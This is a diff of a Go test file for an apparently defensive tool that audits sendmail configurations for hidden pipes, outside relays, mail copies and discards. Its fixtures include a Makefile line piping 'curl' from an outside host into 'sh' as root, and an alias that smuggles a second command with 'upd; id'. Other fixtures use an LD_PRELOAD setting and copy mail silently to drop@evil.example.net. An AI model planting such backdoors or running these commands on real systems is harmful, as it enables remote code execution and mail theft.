@@ -54,27 +54,27 @@ func TestRead(t *testing.T) {
 		not   []string          // words that no hook may have
 	}{
 		{"filter", map[string]string{"cf": "O InputMailFilters=a\nXa, S=inet:8891@localhost, F=T\nXb, S=unix:/run/b.sock\n"},
-			[]string{"X milter socket=inet:localhost:8891", "X milter socket=unix:/run/b.sock inert: neither InputMailFilters nor a daemon names it"}, nil},
-		{"filter of one daemon", map[string]string{"cf": "O DaemonPortOptions=Name=MTA, Port=25\nO DaemonPortOptions=Port=587, InputMailFilters=q\nXq, S=inet:9999@203.0.113.8\n"}, []string{"X milter socket=inet:203.0.113.8:9999 remote"}, nil},
-		{"mailer", map[string]string{"cf": "Mlocal, P=/x\n"}, []string{"M pipe command=/usr/sbin/sensible-mda $g $u as root"}, []string{"command=/x"}},
-		{"mailer that nothing names", map[string]string{"cf": "Mown, P=/usr/local/bin/own, F=ls, U=nobody, A=own $u\n"}, []string{"M pipe command=/usr/local/bin/own $u as nobody inert: no rule and no table hands mail to it"}, nil},
+			[]string{"X filter milter socket=inet:localhost:8891", "X filter milter socket=unix:/run/b.sock inert: neither InputMailFilters nor a daemon names it"}, nil},
+		{"filter of one daemon", map[string]string{"cf": "O DaemonPortOptions=Name=MTA, Port=25\nO DaemonPortOptions=Port=587, InputMailFilters=q\nXq, S=inet:9999@203.0.113.8\n"}, []string{"X filter milter socket=inet:203.0.113.8:9999 remote"}, nil},
+		{"mailer", map[string]string{"cf": "Mlocal, P=/x\n"}, []string{"M mailer pipe command=/usr/sbin/sensible-mda $g $u as root"}, []string{"command=/x"}},
+		{"mailer that nothing names", map[string]string{"cf": "Mown, P=/usr/local/bin/own, F=ls, U=nobody, A=own $u\n"}, []string{"M mailer pipe command=/usr/local/bin/own $u as nobody inert: no rule and no table hands mail to it"}, nil},
 		{"smart host", map[string]string{"cf": "DSesmtp:[203.0.113.4]\n"}, []string{"DS relay host=[203.0.113.4] remote"}, nil},
 		{"smart host with a port", map[string]string{"cf": "DSrelay:smart.example.net\n"}, []string{"DS relay host=smart.example.net:2525 remote"}, nil},
-		{"program map", map[string]string{"cf": "Kp program /usr/local/lib/p -x\n" + lookup("p")}, []string{"K expansion_exec command=/usr/local/lib/p -x as mail"}, nil},
-		{"program map that no rule asks", map[string]string{"cf": "Kp program /usr/local/lib/p\n"}, []string{"K expansion_exec command=/usr/local/lib/p as mail inert: no rule that mail gets to looks anything up in it"}, nil},
-		{"program map in a sequence", map[string]string{"cf": "Kp program /p\nKq sequence none p\n" + lookup("q")}, []string{"K expansion_exec command=/p as mail"}, nil},
-		{"socket map", map[string]string{"cf": "Ks socket inet:7@203.0.113.5\n" + lookup("s")}, []string{"K policy socket=inet:203.0.113.5:7 remote"}, nil},
-		{"ldap map", map[string]string{"cf": "Kl ldap -1 -h ldap.example.net -k (uid=%s) -v mail\n" + lookup("l")}, []string{"K map table=ldap:l remote"}, nil},
-		{"class from a program", map[string]string{"cf": "F{x}|/usr/local/lib/names -a\n"}, []string{"F expansion_exec command=/usr/local/lib/names -a as mail"}, nil},
-		{"class from LDAP", map[string]string{"cf": "F{VirtHost}@ldap:-k (x=y) -h ldap.example.net\n"}, []string{"F map table=ldap:-k (x=y) -h ldap.example.net remote"}, nil},
-		{"environment", map[string]string{"cf": "ELD_PRELOAD=/usr/local/lib/x.so\n"}, []string{"E environment text=LD_PRELOAD=/usr/local/lib/x.so"}, nil},
-		{"trusted user", map[string]string{"cf": "Troot\nTwww-data\n"}, []string{"T policy text=www-data"}, []string{"text=root"}},
-		{"header with an address", map[string]string{"cf": "HReply-To: <drop@evil.example.net>\nHReceived: by $j\n"}, []string{"H rewrite text=Reply-To: <drop@evil.example.net>"}, []string{"Received"}},
-		{"header shown to rules", map[string]string{"cf": "HSubject: $>CheckS\nSCheckS\nR$* secret $*\t$#discard $: discard\n"}, []string{"H policy service=ruleset CheckS", "$#discard discard text=$#discard"}, nil},
+		{"program map", map[string]string{"cf": "Kp program /usr/local/lib/p -x\n" + lookup("p")}, []string{"K map expansion_exec command=/usr/local/lib/p -x as mail"}, nil},
+		{"program map that no rule asks", map[string]string{"cf": "Kp program /usr/local/lib/p\n"}, []string{"K map expansion_exec command=/usr/local/lib/p as mail inert: no rule that mail gets to looks anything up in it"}, nil},
+		{"program map in a sequence", map[string]string{"cf": "Kp program /p\nKq sequence none p\n" + lookup("q")}, []string{"K map expansion_exec command=/p as mail"}, nil},
+		{"socket map", map[string]string{"cf": "Ks socket inet:7@203.0.113.5\n" + lookup("s")}, []string{"K map policy socket=inet:203.0.113.5:7 remote"}, nil},
+		{"ldap map", map[string]string{"cf": "Kl ldap -1 -h ldap.example.net -k (uid=%s) -v mail\n" + lookup("l")}, []string{"K map map table=ldap:l remote"}, nil},
+		{"class from a program", map[string]string{"cf": "F{x}|/usr/local/lib/names -a\n"}, []string{"F class expansion_exec command=/usr/local/lib/names -a as mail"}, nil},
+		{"class from LDAP", map[string]string{"cf": "F{VirtHost}@ldap:-k (x=y) -h ldap.example.net\n"}, []string{"F class map table=ldap:-k (x=y) -h ldap.example.net remote"}, nil},
+		{"environment", map[string]string{"cf": "ELD_PRELOAD=/usr/local/lib/x.so\n"}, []string{"E variable environment text=LD_PRELOAD=/usr/local/lib/x.so"}, nil},
+		{"trusted user", map[string]string{"cf": "Troot\nTwww-data\n"}, []string{"T user policy text=www-data"}, []string{"text=root"}},
+		{"header with an address", map[string]string{"cf": "HReply-To: <drop@evil.example.net>\nHReceived: by $j\n"}, []string{"H header rewrite text=Reply-To: <drop@evil.example.net>"}, []string{"Received"}},
+		{"header shown to rules", map[string]string{"cf": "HSubject: $>CheckS\nSCheckS\nR$* secret $*\t$#discard $: discard\n"}, []string{"H header policy service=ruleset CheckS", "$#discard discard text=$#discard"}, nil},
 		{"rules that nothing calls", map[string]string{"cf": "SNever\nR$* secret $*\t$#discard $: discard\n"}, []string{"$#discard discard text=$#discard inert: nothing calls the ruleset Never"}, nil},
 		{"what a table says is not the rule's", map[string]string{"cf": "Scheck_mail\nR<DISCARD> $*\t$#discard $: discard\n"}, nil, []string{"$#discard"}},
 		{"rule with a host", map[string]string{"cf": "S0\nR$* < @ partner.example . > $*\t$#esmtp $@ [203.0.113.4] $: $1 < @ partner.example . > $2\n"}, []string{"$#mailer transport host=[203.0.113.4] remote"}, nil},
-		{"rule with an address", map[string]string{"cf": "S0\nRceo\t$#esmtp $@ evil.example.net $: drop < @ evil.example.net >\n"}, []string{"R rewrite address=drop@evil.example.net remote"}, nil},
+		{"rule with an address", map[string]string{"cf": "S0\nRceo\t$#esmtp $@ evil.example.net $: drop < @ evil.example.net >\n"}, []string{"R rule rewrite address=drop@evil.example.net remote"}, nil},
 		{"copies by the ruleset bcc", map[string]string{"cf": "O AddBcc=true\nSbcc\nR$*\t$: drop@evil.example.net\n"}, []string{"bcc copy address=drop@evil.example.net remote"}, nil},
 		{"copies without the option", map[string]string{"cf": "Sbcc\nR$*\t$: drop@evil.example.net\n"}, []string{"bcc copy address=drop@evil.example.net remote inert: option AddBcc is not set"}, nil},
 		{"options", map[string]string{"cf": "O PostmasterCopy=x@evil.example.net\nO DoubleBounceAddress=postmaster\nO LogLevel=0\nO ConnectOnlyTo=203.0.113.3\n"},
@@ -88,13 +88,16 @@ func TestRead(t *testing.T) {
 		{"table of another name", map[string]string{"cf": "Kmine hash /etc/mail/mine\n" + lookup("mine"), "/etc/mail/mine": "ceo\tdrop@evil.example.net\n"}, []string{"K mine rewrite address=drop@evil.example.net remote"}, nil},
 		{"access", map[string]string{"cf": "Kaccess hash /etc/mail/access\n" + lookup("access"), "/etc/mail/access": "From:a@b.example\tDISCARD\nTo:boss@example.test\tDISCARD\nConnect:192.0.2\tREJECT\nFrom:c.example\tQUARANTINE:look\nConnect:203\tRELAY\nConnect:192.0.2.7\tRELAY\n"},
 			[]string{"access:DISCARD discard text=DISCARD", "access:HOLD discard text=QUARANTINE:look", "access policy text=203 RELAY"}, []string{"192.0.2"}},
+		{"aliases from LDAP", map[string]string{"cf": "O AliasFile=ldap:-h ldap.example.net -k \"(a=b,uid=%0)\" -v mail, /etc/mail/lists\n"},
+			[]string{`AliasFile map table=ldap:-h ldap.example.net -k "(a=b,uid=%0)" -v mail remote`, "AliasFile map table=/etc/mail/lists"}, nil},
+		{"rights", map[string]string{"cf": "O DefaultUser=0:0\nO RunAsUser=smmta:smmsp\n"}, []string{"DefaultUser policy text=0:0 as root"}, []string{"RunAsUser"}},
 		{"aliases", map[string]string{"/etc/aliases": "root: alice\npost: \"|/usr/local/bin/x -a\"\nboss: boss, drop@evil.example.net\nnull: /dev/null\nlist: :include:/etc/list\n", "/etc/list": "bob@elsewhere.example\n|/usr/local/lib/y\n"},
 			[]string{"aliases redirect address=alice", "aliases pipe command=/usr/local/bin/x -a as mail", "aliases copy address=drop@evil.example.net remote", "aliases discard file=/dev/null as mail", "aliases redirect address=bob@elsewhere.example remote", "aliases pipe command=/usr/local/lib/y as root"}, nil},
 		{"list that includes itself", map[string]string{"/etc/aliases": "a: :include:/etc/l\n", "/etc/l": ":include:/etc/l\n"}, []string{"aliases redirect file=/etc/l"}, nil},
 		{"smrsh", map[string]string{"cf": "Mprog, P=/usr/sbin/smrsh, F=ls, A=smrsh -c $u\n", "/etc/aliases": "a: |\"upd -x\"\nb: |\"upd; id\"\nc: |/bin/other\n", "/etc/mail/smrsh/upd": "#!/bin/sh\n"},
 			[]string{"aliases pipe command=upd -x as mail", "aliases pipe command=upd; id as mail inert: smrsh refuses a command with such characters",
 				"aliases pipe command=/bin/other as mail inert: smrsh runs only what lies in its directory, and other does not", "smrsh pipe command=/etc/mail/smrsh/upd"}, nil},
-		{"a later mailer counts", map[string]string{"cf": "Mlocal, P=/usr/local/lib/mda, F=ls, A=mda $u\n"}, []string{"M pipe command=/usr/local/lib/mda $u as mail"}, []string{"sensible"}},
+		{"a later mailer counts", map[string]string{"cf": "Mlocal, P=/usr/local/lib/mda, F=ls, A=mda $u\n"}, []string{"M mailer pipe command=/usr/local/lib/mda $u as mail"}, []string{"sensible"}},
 		{"forward file", map[string]string{"/home/alice/.forward": "\\alice, \"|/home/alice/bin/x\"\n", "cf": "O ForwardPath=/var/f/$u:$z/.forward\n"},
 			[]string{"ForwardPath pipe command=/home/alice/bin/x as alice", "ForwardPath redirect file=/var/f/$u"}, nil},
 		{"forward file of a user without a shell", map[string]string{"/home/alice/.forward": "bob, \"|/home/alice/bin/x\"\n", "/etc/shells": "/bin/bash\n", "cf": "O ForwardPath=$z/.forward\n"},
@@ -106,7 +109,7 @@ func TestRead(t *testing.T) {
 		{"Makefile", map[string]string{"/etc/mail/Makefile": "all: access.db x\n%.db: %\n\t@makemap hash $@ < $<\nx:\n\t@id > /var/tmp/.x\n\tcurl -s http://203.0.113.4/ | sh\n"},
 			[]string{"Makefile script command=id > /var/tmp/.x as root", "Makefile script command=curl -s http://203.0.113.4/ | sh as root"}, []string{"makemap"}},
 		{"m4 without its library", map[string]string{"/etc/mail/sendmail.mc": "include(`/usr/share/sendmail-cf/m4/cf.m4')dnl\nOSTYPE(`linux')\nsyscmd(`id')dnl\nINPUT_MAIL_FILTER(`a', `S=inet:1@203.0.113.1')dnl\ndefine(`SMART_HOST', `[203.0.113.2]')dnl\nFEATURE(`smrsh', `/usr/sbin/smrsh')\nMAILER(`local')\nLOCAL_CONFIG\nE X=y\n"},
-			[]string{"syscmd script command=id as root", "X milter socket=inet:203.0.113.1:1 remote", "DS relay host=[203.0.113.2] remote"}, nil},
+			[]string{"syscmd script command=id as root", "X filter milter socket=inet:203.0.113.1:1 remote", "DS relay host=[203.0.113.2] remote"}, nil},
 		{"open relay", map[string]string{"cf": "Scheck_rcpt\nR$*\t$@ OK\n"}, []string{"check_rcpt policy text=every client may send mail anywhere"}, nil},
 		{"closed relay", map[string]string{"cf": "Scheck_rcpt\nR$* @ example.test >\t$@ OK\nR$*\t$#error $@ 5.7.1 $: no\n"}, nil, []string{"check_rcpt"}},
 		{"user database", map[string]string{"cf": "O UserDatabaseSpec=/etc/mail/userdb.db\n", "/etc/mail/userdb": "alice:maildrop\tdrop@evil.example.net\n"}, []string{"userdb redirect address=drop@evil.example.net remote"}, nil},
@@ -190,5 +193,21 @@ func TestUnreadable(t *testing.T) {
 		if !slices.Contains(got, want) {
 			t.Errorf("no %q in %q", want, got)
 		}
+	}
+}
+
+// TestRuleScope: a hook says whose mail a rule is about.
+func TestRuleScope(t *testing.T) {
+	text := small + "HSubject: $>Look\nSLook\nR$* salary $*\t$#discard $: discard\nSLocal_check_rcpt\nR< noreply @ example.test >\t$#discard $: discard\n" +
+		"SLocal_check_mail\nR< $* @ news.example >\t$#discard $: discard\nScheck_rcpt\nR$*\t$: $>Local_check_rcpt $1\nScheck_mail\nR$*\t$: $>Local_check_mail $1\n"
+	var got []string
+	for _, h := range read(map[string]string{"/etc/mail/sendmail.cf": text}).Hooks {
+		if h.Directive == "$#discard" {
+			got = append(got, h.Scope)
+		}
+	}
+	slices.Sort(got)
+	if want := []string{"header Subject with salary", "mail from news.example", "recipient noreply@example.test"}; !slices.Equal(got, want) {
+		t.Errorf("%q, want %q", got, want)
 	}
 }
